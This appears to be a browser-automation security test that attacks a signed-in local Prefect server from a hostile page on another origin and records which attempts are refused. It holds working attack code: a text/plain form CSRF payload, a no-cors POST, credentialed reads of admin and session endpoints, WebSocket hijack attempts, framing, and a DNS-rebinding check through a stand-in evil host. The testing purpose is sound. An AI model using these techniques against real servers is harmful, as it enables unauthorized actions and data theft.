// A page of another port of this host, and one whose name was rebound to it, attack a Prefect server to which this
// browser is signed in.
//
// The one argument is a request, in JSON:
//   {"login": address that signs in, "artifact": path of a picture on the server}
// Prints what each attempt got:
//   {"own": status of the artifact for our own page, "NAME": "refused" or what came back, ...}
import { launch, serve, signIn } from "./browser.mjs";

const { login, artifact } = JSON.parse(process.argv[2]);
const server = new URL(login).origin;
const REBOUND = "rebind.evil.example";

// Runs inside of the hostile page.
async function attack({ server, artifact, flow }) {
  const attempt = async (work) => {
    try {
      return await work();
    } catch {
      return "refused";
    }
  };
  const read = (path, options = {}) => attempt(async () => {
    const answer = await fetch(server + path, { credentials: "include", ...options });
    return `${answer.status} ${await answer.text()}`;
  });
  const shown = (name, path) => new Promise((resolve) => {
    const element = document.body.appendChild(document.createElement(name));
    element.onload = () => resolve(name === "iframe" ? "loaded" : `${element.naturalWidth} pixels wide`);
    element.onerror = () => resolve("refused");
    element.src = server + path;
    setTimeout(() => resolve("refused"), 3000);
  });
  const socket = (path, protocols) => new Promise((resolve) => {
    const stream = new WebSocket(server.replace("http", "ws") + path, protocols);
    stream.onopen = () => resolve("opened");
    stream.onerror = () => resolve("refused");
  });
  const form = async () => {
    const frame = document.body.appendChild(Object.assign(document.createElement("iframe"), { name: "target" }));
    const sent = document.body.appendChild(document.createElement("form"));
    Object.assign(sent, { method: "post", action: `${server}/api/flows/`, target: frame.name, enctype: "text/plain" });
    sent.appendChild(Object.assign(document.createElement("input"), { name: `{"name":"${flow}","x":"`, value: '"}' }));
    sent.submit();
    await new Promise((resolve) => setTimeout(resolve, 1500));
  };
  const json = { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ name: flow }) };
  const blind = { method: "POST", mode: "no-cors", body: JSON.stringify({ name: flow }) };
  await attempt(() => fetch(`${server}/api/flows/`, { credentials: "include", ...blind }));
  await form();
  return {
    read: await read("/api/admin/version"),
    settings: await read("/ui-settings"),
    session: await read("/dg4d/session"),
    fetched: await read(artifact),
    write: await read("/api/flows/", json),
    picture: await shown("img", artifact),
    events: await socket("/api/events/in"),
    eventsWithProtocol: await socket("/api/events/in", "prefect"),
    logs: await socket("/api/logs/out", "prefect"),
  };
}

const browser = await launch([`--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`]);
const other = await serve({ "/page.html": { html: "<!doctype html><title>hostile</title><body></body>" } });
try {
  const context = await browser.newContext();
  const signedIn = await context.newPage();
  await signIn(signedIn, login, "/");
  const own = await signedIn.evaluate(async (path) => (await fetch(path)).status, artifact);
  const page = await context.newPage();
  await page.goto(`${other.origin}/page.html`);
  const results = await page.evaluate(attack, { server, artifact, flow: "hostile" });
  const framed = await page.evaluate((address) => {
    document.body.innerHTML = `<iframe src="${address}"></iframe>`;
  }, `${server}/`).then(() => page.waitForTimeout(1500)).then(() => page.frames().map((frame) => frame.url()));
  const rebound = await context.newPage();
  const answer = await rebound.goto(server.replace("127.0.0.1", REBOUND));
  console.log(JSON.stringify({
    own, ...results, framed: framed.some((url) => url.startsWith(server)) ? "loaded" : "refused",
    rebound: answer.status() === 400 ? "refused" : `${answer.status()}`,
  }));
} finally {
  await browser.close();
  other.close();
}
